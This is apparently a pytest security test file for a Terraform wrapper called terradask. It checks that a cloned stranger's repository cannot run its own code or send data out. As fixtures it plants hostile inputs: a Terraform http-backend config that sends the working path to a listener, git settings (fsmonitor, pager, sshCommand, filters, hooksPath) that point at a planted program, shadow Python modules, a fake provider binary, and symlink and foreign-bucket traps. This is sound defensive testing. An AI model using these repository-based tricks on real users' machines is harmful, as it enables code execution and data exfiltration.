"""A stranger's repository is cloned, and terradask is run in it: nothing of the repository runs,
and nothing is sent, before the user was asked.
"""

from __future__ import annotations

import ast
import json
import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest
from botocore.exceptions import ClientError

from terradask._clusters.jobs.files import find_files
from terradask._plans.basis import commit_of
from terradask._software.conda.solver import CondaSolver
from terradask._software.host_packages import BootLock, download
from terradask._terraform.folder_contents import CONFIGURATION, LOCK_FILE
from terradask._terraform.provider_mirror import this_platform
from terradask._terraform.terraform import init_key
from terradask.errors import BaselineError
from terradask_modules.frameworks import PROVIDER_VERSION
from terradask_simulator import Simulator

from ..quick_provider import package_hash, write_lock
from .cloned import PROGRAMS, WORKING_FOLDERS, Clone, aws, clone, listener, run_git

__all__ = ["aws", "clone", "listener"]

pytestmark = [pytest.mark.simulator]

ROOT = Path(__file__).parents[2]

NETWORK = "cdktf.out/stacks/network"


def _sends(clone: Clone) -> str:
    """Return a configuration that sends a file away while it is planned, with what is built into
    Terraform alone.
    """
    return json.dumps(
        {
            "data": {
                "terraform_remote_state": {
                    "sent": {
                        "backend": "http",
                        "config": {"address": f"{clone.url}/${{urlencode(path.cwd)}}"},
                    }
                }
            }
        }
    )


def _plant_provider(clone: Clone) -> None:
    """Plant a provider that Terraform would take for the one of the lock file, installed."""
    below = f"registry.terraform.io/hashicorp/aws/{PROVIDER_VERSION}/{this_platform()}"
    name = f"terraform-provider-aws_v{PROVIDER_VERSION}_x5"
    package = clone.program(f"{NETWORK}/.terraform/providers/{below}/{name}")
    for folder in ("", f"{NETWORK}/"):
        write_lock(clone.folder / folder / LOCK_FILE, package)
    assert package_hash(package) in (clone.folder / LOCK_FILE).read_text()


def test_a_provider_of_the_repositorys_is_not_run(clone: Clone) -> None:
    _plant_provider(clone)
    done = clone.run("plan", "network", "--json")
    assert clone.untouched, clone.marker.read_text()
    # The user's own is there, and is put in its place.
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["counts"]["create"] > 20


@pytest.mark.life
def test_what_the_repository_says_of_an_earlier_init_counts_for_nothing(
    clone: Clone, aws: Simulator
) -> None:
    s3 = aws.client("s3")
    # A real one: its state has to be where the settings say, whatever the repository remembers.
    assert clone.run("plan", "network").returncode == 0
    data = clone.folder / NETWORK / ".terraform"
    record = json.loads((data / "terraform.tfstate").read_text())
    elsewhere = "elsewhere/network.tfstate"
    record["backend"]["config"]["key"] = elsewhere
    (data / "terraform.tfstate").write_text(json.dumps(record))
    (data / "environment").write_text("theirs")
    clone.plant(f"{NETWORK}/.terraform/modules/modules.json", "{}")
    configuration = json.loads((clone.folder / NETWORK / CONFIGURATION).read_text())
    assert json.loads((data / "terradask.json").read_text())["key"] == init_key(
        configuration,
        lock_file=clone.folder / NETWORK / LOCK_FILE,
        cli_config=Path(clone.environ["TF_CLI_CONFIG_FILE"]),
        version="Terraform 1.11.4",
    )
    done = clone.run("apply", "network", "--yes")
    try:
        assert done.returncode == 0, done.stderr
        keys = [one["Key"] for one in s3.list_objects_v2(Bucket=STATES)["Contents"]]
        assert "workspaces/default/network.tfstate" in keys
        assert elsewhere not in keys
        assert sorted(path.name for path in data.iterdir()) == [
            "providers",
            "terradask.json",
            "terraform.tfstate",
        ]
    finally:
        assert clone.run("destroy", "network", "--yes").returncode == 0


@pytest.mark.parametrize(
    "name",
    [
        "extra.tf.json",
        "override.tf.json",
        "cdk_override.tf.json",
        "terraform.tfvars",
        "x.auto.tfvars",
        "extra.tofu",
        "cdk.tofu.json",
        "terraform.d/plugins/x",
    ],
)
def test_a_file_that_terraform_would_load_is_refused_by_name(clone: Clone, name: str) -> None:
    clone.plant(f"{NETWORK}/{name}", _sends(clone))
    done = clone.run("plan", "network")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "foreign files" in done.stderr
    assert name.partition("/")[0] in done.stderr


def test_what_is_loaded_nowhere_stays(clone: Clone) -> None:
    kept = ["errored.tfstate", "crash.log", ".extra.tf", "extra.tf~"]
    for name in kept:
        clone.plant(f"{NETWORK}/{name}", "resource x y {")
    done = clone.run("plan", "network")
    assert done.returncode == 0, done.stderr
    assert all((clone.folder / NETWORK / name).is_file() for name in kept)


@pytest.mark.parametrize(
    "place",
    [
        "cdktf.out",
        "cdktf.out/stacks",
        NETWORK,
        f"{NETWORK}/host",
        f"{NETWORK}/.terraform",
        ".terradask",
        ".terradask/state",
        ".terradask/plans",
    ],
)
def test_no_link_leads_what_is_written_elsewhere(clone: Clone, place: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    link = clone.folder / place
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(home)
    done = clone.run("plan", "network")
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{place}" in done.stderr
    assert "a symbolic link" in done.stderr
    assert list(home.iterdir()) == []


@pytest.mark.parametrize(
    "place",
    [
        "cdktf.out/.gitignore",
        "cdktf.out/stacks/.network.lock",
        f"{NETWORK}/{CONFIGURATION}",
        ".terradask/.gitignore",
        ".terradask/state/network.tfstate",
    ],
)
def test_no_linked_file_is_overwritten(clone: Clone, place: str, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.write_text("mine")
    link = clone.folder / place
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(mine)
    done = clone.run("plan", "network")
    assert done.returncode == 2, done.stdout + done.stderr
    assert mine.read_text() == "mine"


@pytest.fixture
def git_clone(tmp_path: Path) -> Clone:
    """A folder that brings along its ``.git``, as an unpacked archive does."""
    clone = Clone(tmp_path / "archive", tmp_path / "ran", "", {})
    clone.plant("terradask.toml", "")
    clone.plant("tracked.txt", "one")
    clone.plant(".gitattributes", "*.txt filter=theirs diff=theirs\n")
    run_git(clone.folder, "init", "-q")
    run_git(clone.folder, "add", ".")
    run_git(clone.folder, "commit", "-q", "-m", "x")
    program = clone.program("bin/theirs")
    for setting in (
        "core.fsmonitor",
        "core.pager",
        "core.sshCommand",
        "diff.external",
        "diff.theirs.command",
        "diff.theirs.textconv",
        "filter.theirs.clean",
        "filter.theirs.process",
        "filter.theirs.smudge",
    ):
        run_git(clone.folder, "config", setting, str(program))
    run_git(clone.folder, "config", "filter.theirs.required", "true")
    run_git(clone.folder, "config", "core.hooksPath", str(program.parent))
    clone.program("bin/post-index-change")
    clone.plant("tracked.txt", "two")
    clone.marker.unlink(missing_ok=True)
    return clone


def test_git_runs_no_program_that_the_repository_names(git_clone: Clone) -> None:
    commit = commit_of(git_clone.folder)
    assert commit is not None
    assert commit.endswith("-dirty")
    found = find_files([], git_clone.folder)
    assert {"tracked.txt", "terradask.toml", ".gitattributes"} <= found.keys()
    assert git_clone.untouched, git_clone.marker.read_text()
    # They would run: each of git's own calls does.
    subprocess.run(
        ["git", "-C", str(git_clone.folder), "describe", "--always", "--dirty"],
        check=False,
        capture_output=True,
    )
    assert not git_clone.untouched


MODULES = ("pip.py", "json.py", "subprocess.py", "sitecustomize.py", "rattler.py", "email.py")


def test_no_module_of_the_working_directory_is_taken_for_one_of_pythons(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    clone = Clone(tmp_path / "repository", tmp_path / "ran", "", {})
    for name in MODULES:
        clone.module(name)
    monkeypatch.chdir(clone.folder)
    # No index answers there.
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    with pytest.raises(BaselineError, match="pip could not download"):
        download(
            BootLock(b"jmespath==1.0.1 --hash=sha256:" + b"0" * 64), tmp_path / "packages", "x86_64"
        )
    assert clone.untouched, clone.marker.read_text()
    pytest.importorskip("rattler")
    solver = CondaSolver(tmp_path / "environment.yml", (), "x86_64", os.environ)
    assert solver.distributions([]) == {}
    assert clone.untouched, clone.marker.read_text()


def test_no_program_of_pythons_is_started_with_the_working_directory_on_its_path() -> None:
    wrong = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for root in ("cluster", "host", "simulator/terradask_simulator")
        for path in sorted((ROOT / root).rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.List | ast.Tuple) and _starts_unsafe_python(node)
    ]
    assert wrong == []


def _starts_unsafe_python(node: ast.List | ast.Tuple) -> bool:
    text = ast.unparse(node)
    words = [each.value for each in ast.walk(node) if isinstance(each, ast.Constant)]
    return "sys.executable" in text and "-m" in words and not {"-P", "-I"} & set(words)


def test_a_state_that_the_repository_brings_along_is_not_read(clone: Clone) -> None:
    clone.plant(".terradask/state/network.tfstate", _planted_state().decode())
    done = clone.run("plan", "network")
    assert done.returncode == 5, done.stdout + done.stderr
    assert "the network's state is in a file" in done.stderr


@pytest.mark.slow
@pytest.mark.life
def test_the_commands_run_as_users_run_them_run_nothing_of_it(clone: Clone) -> None:
    """All of it at once, and each command as a process in the repository."""
    _plant_provider(clone)
    for name in MODULES:
        clone.module(name)
    clone.program("bin/theirs")
    for name in PROGRAMS:
        clone.program(name)
        clone.program(f"bin/{name}")
    clone.plant(".terraformrc", 'plugin_cache_dir = "."')
    clone.plant(".env", f"TF_CLI_CONFIG_FILE={clone.folder}/.terraformrc")
    run_git(clone.folder, "init", "-q")
    run_git(clone.folder, "add", "terradask.toml")
    run_git(clone.folder, "commit", "-q", "-m", "x")
    run_git(clone.folder, "config", "core.fsmonitor", str(clone.folder / "bin/theirs"))
    terradask = Path(sys.executable).with_name("terradask")
    path = os.pathsep.join([*WORKING_FOLDERS, os.environ["PATH"]])
    for command in (("doctor",), ("plan", "network"), ("list",)):
        done = subprocess.run(
            [str(terradask), *command],
            cwd=clone.folder,
            env={**clone.environ, "PATH": path},
            capture_output=True,
            text=True,
            check=False,
        )
        assert clone.untouched, f"{command}: {clone.marker.read_text()}"
        assert "Traceback" not in done.stderr, done.stderr
        if command[0] == "plan":
            assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.life
def test_a_locked_image_of_a_strangers_is_planned_by_no_command(clone: Clone) -> None:
    assert clone.run("plan", "network", "--out", "plan").returncode == 0
    lock = clone.folder / "terradask.lock.json"
    document = json.loads(lock.read_text())
    document["network"]["image_ids"]["x86_64"] = "ami-0123456789abcdef0"
    lock.write_text(json.dumps(document))
    for command in (("plan", "network"), ("plan",), ("apply", "--plan", "plan", "--yes")):
        done = clone.run(*command)
        assert done.returncode == 2, done.stdout + done.stderr
        assert "the locked image doesn't exist" in done.stderr
    # What is there can be removed all the same; synthesis asks nobody.
    assert "the locked image" not in clone.run("destroy", "network", "--yes").stderr
    assert clone.run("synth").returncode == 0
    assert clone.run("plan", "network", "--refresh").returncode == 0


THEM = "210987654321"
STATES = "terradask-state-123456789012-us-east-1"


def _planted_state() -> bytes:
    state = {"version": 4, "terraform_version": "1.11.4", "serial": 9, "lineage": "theirs"}
    return json.dumps({**state, "outputs": {}, "resources": []}).encode()


def test_no_state_goes_to_a_strangers_bucket_or_comes_from_it(clone: Clone, aws: Simulator) -> None:
    key, bucket, s3 = "workspaces/default/network.tfstate", "a-strangers", aws.client("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_object(Bucket=bucket, Key=key, Body=_planted_state())
    text = f'{(clone.folder / "terradask.toml").read_text()}\n[state]\nbucket = "{bucket}"\n'
    clone.plant("terradask.toml", text)
    with aws.give_bucket(bucket, THEM):
        for command in (
            ("plan", "network"),
            ("apply", "network", "--yes"),
            ("init", "--state", "s3"),
            ("destroy", "network", "--yes"),
            ("unlock", "network"),
        ):
            done = clone.run(*command)
            assert done.returncode != 0, (command, done.stdout)
            assert bucket in done.stderr
            if command[0] in ("plan", "init"):
                assert "TERRADASK_STATE__BUCKET_OWNER" in done.stderr
        versions = s3.list_object_versions(Bucket=bucket)["Versions"]
        assert [one["Key"] for one in versions] == [key]
        assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == _planted_state()
        # In the file that the stranger wrote, nobody says that it is theirs.
        clone.plant("terradask.toml", f'{text}bucket_owner = "{THEM}"\n')
        assert "can't be in the file" in clone.run("plan", "network").stderr
        clone.plant("terradask.toml", text)
        clone.environ["TERRADASK_STATE__BUCKET_OWNER"] = THEM
        assert clone.run("plan", "network").returncode == 0


def test_no_state_is_encrypted_with_a_strangers_key(clone: Clone, aws: Simulator) -> None:
    settings = (clone.folder / "terradask.toml").read_text()
    key = f"arn:aws:kms:us-east-1:{THEM}:key/0123abcd-01ab-23cd-45ef-0123456789ab"
    clone.plant("terradask.toml", f'{settings}\n[state]\nkms_key_arn = "{key}"\n')
    for command in (("init", "--state", "s3"), ("plan", "network")):
        done = clone.run(*command)
        assert done.returncode == 2, done.stdout + done.stderr
        assert "TERRADASK_STATE__KMS_KEY_ARN" in done.stderr
    # Other tests' plans have made the bucket: it is theirs as it was.
    with suppress(ClientError):
        (rule,) = aws.client("s3").get_bucket_encryption(Bucket=STATES)[
            "ServerSideEncryptionConfiguration"
        ]["Rules"]
        assert rule["ApplyServerSideEncryptionByDefault"] == {"SSEAlgorithm": "AES256"}


def test_no_role_of_a_strangers_account_is_assumed(clone: Clone, aws: Simulator) -> None:
    arn = aws.add_account(THEM)
    settings = (clone.folder / "terradask.toml").read_text()
    theirs = f'{settings}\n[workspace]\nrole_arn = "{arn}"\n'
    assert "[workspace]" not in settings
    clone.plant("terradask.toml", theirs)
    before = aws.calls().get("sts:AssumeRole", 0)
    for command in (("plan", "network"), ("list",), ("doctor",), ("start", "etl")):
        done = clone.run(*command)
        assert done.returncode != 0, (command, done.stdout)
        assert "TERRADASK_WORKSPACE__TRUSTED_ACCOUNTS" in done.stdout + done.stderr, command
    # The file's author doesn't decide whom the user trusts.
    clone.plant("terradask.toml", f'{theirs}trusted_accounts = ["{THEM}"]\n')
    assert "can't be in the file" in clone.run("list").stderr
    assert aws.calls().get("sts:AssumeRole", 0) == before
    clone.plant("terradask.toml", theirs)
    clone.environ["TERRADASK_WORKSPACE__TRUSTED_ACCOUNTS"] = f'["{THEM}"]'
    assert clone.run("list").returncode == 0
